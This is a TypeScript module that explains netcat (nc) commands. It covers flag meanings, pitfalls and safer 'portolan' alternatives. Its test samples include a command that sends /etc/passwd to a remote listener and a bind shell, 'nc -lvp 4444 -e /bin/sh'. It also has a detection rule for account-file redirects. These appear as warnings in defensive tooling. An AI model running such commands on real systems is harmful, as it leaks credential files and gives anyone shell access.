/** nc as OpenBSD writes it (the one on Debian, Ubuntu and macOS); where the traditional nc and ncat differ, a pitfall says so. */

import type { Part } from '../explanation.ts';
import { looksLikePort, portMeaning } from '../grammars/ports.ts';
import { addressMeaning } from '../grammars/targets.ts';
import { endpoint, portWord } from '../ours.ts';
import type { Offer } from '../ours.ts';
import { defineTool, flag, part } from '../tool.ts';
import type { Parsed } from '../tool.ts';

export default defineTool({
  name: 'nc',
  aliases: ['netcat', 'nc.openbsd', 'nc.traditional'],
  summary: 'Connects to a port or listens on one, and passes bytes both ways.',
  clusterable: true,
  flags: [
    flag('-l', 'listens for a connection in place of making one'),
    flag('-k', 'goes on listening after a client leaves, one client at a time'),
    flag('-u', 'uses UDP datagrams in place of TCP'),
    flag('-z', 'connects and sends nothing: a look whether the port is open'),
    flag('-v', 'says what happens, on standard error'),
    flag('-n', 'takes addresses as numbers only, with no DNS look-ups'),
    flag('-N', 'closes the sending side when the input ends, so the peer sees the end'),
    flag('-q', 'quits this long after the input has ended', 'SECONDS'),
    flag('-w', 'gives up after this many seconds without connection or traffic', 'SECONDS'),
    flag('-p', 'the local port to send from', { name: 'PORT', meaning: portMeaning }),
    flag('-s', 'the local address to send from', { name: 'ADDRESS', meaning: addressMeaning }),
    flag('-4', 'uses IPv4 addresses only'),
    flag('-6', 'uses IPv6 addresses only'),
    flag('-U', 'uses a Unix domain socket, whose path is the operand'),
    flag('-W', 'quits after this many datagrams were received', 'COUNT'),
    flag('-b', 'allows broadcast addresses'),
    flag('-C', 'sends CR LF for each line feed, as many text protocols ask'),
    flag('-D', 'turns on debugging of the socket in the kernel'),
    flag('-d', 'does not read standard input'),
    flag('-F', 'passes the connected socket on to another program'),
    flag('-h', 'prints a summary of the options'),
    flag('-I', 'the size of the receive buffer in bytes', 'BYTES'),
    flag('-O', 'the size of the send buffer in bytes', 'BYTES'),
    flag('-i', 'waits this long between lines sent or ports tried', 'SECONDS'),
    flag('-M', 'the time to live (hop limit) of packets sent', 'HOPS'),
    flag('-m', 'drops packets that arrive with a lower time to live', 'HOPS'),
    flag('-P', 'the user name for the proxy', 'USER'),
    flag('-X', 'the proxy protocol: 4, 5 (SOCKS) or connect', 'PROTOCOL'),
    flag('-x', 'goes through this proxy', 'HOST:PORT'),
    flag('-r', 'picks ports in random order'),
    flag('-S', 'signs TCP segments with MD5 (RFC 2385)'),
    flag('-T', 'the type of service of packets sent', 'KEYWORD'),
    flag('-t', 'refuses telnet options that the peer asks for'),
    flag('-V', 'the routing table to use', 'TABLE'),
    flag('-Z', 'uses DCCP in place of TCP'),
    flag('-o', 'traditional nc: writes a hex dump of what passes; OpenBSD nc has no -o', 'FILE'),
    flag('-G', 'macOS: gives up connecting after this time; elsewhere a source route', 'SECONDS'),
    flag('-e', 'traditional nc: runs this program on the connection; OpenBSD nc has no -e', 'PROGRAM'),
    flag('-c', 'traditional nc: runs this shell command on the connection; OpenBSD nc of Debian has no -c', 'COMMAND'),
  ],
  operands: explainEnds,
  pitfalls: [
    {
      when: (parsed) => sendsFile(parsed) && !parsed.has('-N', '-q'),
      text: 'OpenBSD nc delivers the file and then hangs for ever: without -N it never tells the peer that the input has ended.',
    },
    {
      when: (parsed) => sendsFile(parsed) || savesFile(parsed),
      text: 'Nothing checks the transfer: no size, no hash, no encryption. Whoever is on the path reads it, whoever connects first gets or gives it.',
    },
    {
      when: (parsed) => parsed.redirects.some(({ target }) => /^\/etc\/(?:passwd|shadow)/.test(target)),
      text: 'Sends an account file to whoever listens there, in the clear: this is how data leaves a machine unseen.',
    },
    {
      when: (parsed) => parsed.has('-l') && !parsed.has('-s') && parsed.operands.length < 2,
      text: 'Listens on every address of this machine, not on loopback only: anyone who can reach the port can connect.',
    },
    {
      when: (parsed) => parsed.has('-l') && parsed.has('-p'),
      text: 'OpenBSD nc takes the port as an operand (nc -l PORT); only the traditional nc wants -l -p PORT, and older OpenBSD builds refuse both together.',
    },
    {
      when: (parsed) => parsed.has('-l') && !parsed.has('-p', '-U') && parsed.operands.length === 1,
      text: 'The traditional nc needs "nc -l -p PORT"; there are three programs named nc, with different letters.',
    },
    {
      when: (parsed) => parsed.has('-u') && parsed.has('-l'),
      text: 'OpenBSD nc -u -l locks to the first peer: later senders get "Connection refused". ncat ends after one. So "accepts datagrams from all" depends on the build.',
    },
    {
      when: (parsed) => parsed.has('-u') && !parsed.has('-l'),
      text: 'Silence proves nothing: UDP has no handshake, and a service answers only what it understands.',
    },
    {
      when: (parsed) => parsed.has('-u') && parsed.has('-z'),
      text: 'nc -uz reports "succeeded" when nothing came back: the port is open or filtered, nobody knows which.',
    },
    {
      when: (parsed) => parsed.has('-z') && !parsed.has('-u'),
      text: 'Exit code 1 covers refused, timed out and name not found alike; and "refused" can come from a firewall (REJECT), not only from a closed port.',
    },
    {
      when: (parsed) => parsed.has('-z') && !parsed.has('-w'),
      text: 'Without -w a filtered port keeps nc waiting for the timeout of the kernel, two minutes or more.',
    },
    {
      when: (parsed) => parsed.has('-z') && parsed.operands.length > 1 && /-/.test(parsed.operands.at(-1)!),
      text: 'For a range the exit code is 0 when any TCP port is open, and that of the last port for UDP; ncat takes no range.',
    },
    {
      when: (parsed) => parsed.has('-k'),
      text: '-k differs: OpenBSD nc serves clients one after the other, ncat in parallel, and the traditional nc only sets keepalive.',
    },
    {
      when: (parsed) => parsed.has('-e', '-c') || runsShell(parsed),
      text: 'A shell on a socket gives whoever connects the rights of this user, without password or encryption.',
    },
    {
      when: (parsed) => !parsed.has('-z', '-h') && parsed.redirects.every(({ operator }) => !operator.includes('>')),
      text: 'What the peer sends reaches the terminal raw, escape sequences included.',
    },
  ],
  ours: mainOffers,
  samples: [
    {
      command: 'nc -l 8000 > myfile',
      expect: {
        parts: [
          ['8000', 'port number 8000'],
          ['> myfile', 'emptied first'],
        ],
        pitfalls: ['every address', 'no hash', 'nc -l -p PORT'],
        ours: ['portolan receive --listen 8000 myfile'],
      },
    },
    {
      command: 'nc <destination> 8000  < /etc/passwd',
      expect: { pitfalls: ['hangs for ever', 'account file'], parts: [['<destination>', 'address or a host name']] },
    },
    {
      command: 'nc -zv target.com 80',
      expect: { pitfalls: ['Exit code 1', 'Without -w'], ours: ['portolan check target.com:80'] },
    },
    { command: 'nc -u target.com 53', expect: { pitfalls: ['Silence proves nothing'] } },
    { command: 'nc -u -l 5353', expect: { pitfalls: ['locks to the first peer'] } },
    { command: 'nc -lvp 4444 -e /bin/sh', expect: { pitfalls: ['shell on a socket', 'as an operand'] } },
    {
      command: 'nc -zuw1 10.0.0.1 1-1000',
      expect: { pitfalls: ['succeeded', 'For a range'], parts: [['1-1000', '1000 of them']] },
    },
    { command: 'nc -J x 80 --ssl', expect: { unknown: ['-J', '--ssl'] } },
  ],
});

function explainEnds(words: readonly string[], parsed: Parsed): readonly Part[] {
  if (parsed.has('-U')) return words.map((word) => part(word, 'operand', 'the path of the Unix domain socket'));
  if (parsed.has('-l') && words.length === 1) return [portPart(words[0]!, 'listens on this port')];
  const [host, ...ports] = words;
  const role = parsed.has('-l') ? 'listens on this address only' : 'the peer';
  const head = part(host!, 'operand', `${role}: ${addressMeaning(host!)}`);
  return [
    head,
    ...ports.map((word) => portPart(word, parsed.has('-l') ? 'listens on this port' : 'the port of the peer')),
  ];
}

function portPart(word: string, role: string): Part {
  if (!looksLikePort(word)) return part(word, 'unknown', 'neither a port number, a range nor a service name');
  return part(word, 'operand', `${role}: ${portMeaning(word)}`);
}

function sendsFile(parsed: Parsed): boolean {
  const input = parsed.redirects.some(({ operator }) => operator.startsWith('<')) || parsed.feeder !== undefined;
  return input && !parsed.has('-l', '-z');
}

function savesFile(parsed: Parsed): boolean {
  return parsed.has('-l') && parsed.redirects.some(({ operator }) => /^1?>/.test(operator));
}

function runsShell(parsed: Parsed): boolean {
  return parsed.feeder !== undefined && /^(?:ba|z|da|k)?sh$/.test(parsed.feeder.name);
}

function mainOffers(parsed: Parsed): readonly Offer[] {
  const port = portWord(parsed.operands.at(-1) ?? parsed.value('-p') ?? 'PORT');
  if (parsed.has('-l')) return listenOffers(parsed, portWord(parsed.value('-p') ?? port));
  const peer = endpoint(parsed.operands[0] ?? 'HOST', port);
  if (parsed.has('-z')) {
    return [
      {
        command: `portolan check ${peer}`,
        why: 'verdict, the packet that decided it, and the next step; distinct exit codes',
      },
    ];
  }
  if (sendsFile(parsed)) {
    const file = parsed.redirects.find(({ operator }) => operator === '<')?.target ?? '-';
    return [
      { command: `portolan send ${peer} ${file}`, why: 'sends with byte count and SHA-256, and both ends finish' },
    ];
  }
  const udp = parsed.has('-u');
  const talk = {
    command: `portolan talk ${udp ? '--udp ' : ''}${peer}`,
    why: 'talks to the port, with the output made safe for the terminal',
  };
  const probe = {
    command: `portolan check --udp ${peer}`,
    why: 'sends what the protocol understands, so that an answer can come',
  };
  return udp ? [probe, talk] : [talk];
}

function listenOffers(parsed: Parsed, port: string): readonly Offer[] {
  if (savesFile(parsed)) {
    const file = parsed.redirects.find(({ operator }) => operator.includes('>'))!.target;
    return [
      {
        command: `portolan receive --listen ${port} ${file}`,
        why: 'receives with byte count and SHA-256, and both ends finish',
      },
    ];
  }
  const udp = parsed.has('-u') ? '--udp ' : '';
  const watch = {
    command: `portolan watch port:${port}`,
    why: 'shows the listener and each connection as they come and go',
  };
  return [
    {
      command: `portolan listen ${udp}${port}`,
      why: 'listens, on loopback unless told otherwise, and serves many peers',
    },
    watch,
  ];
}
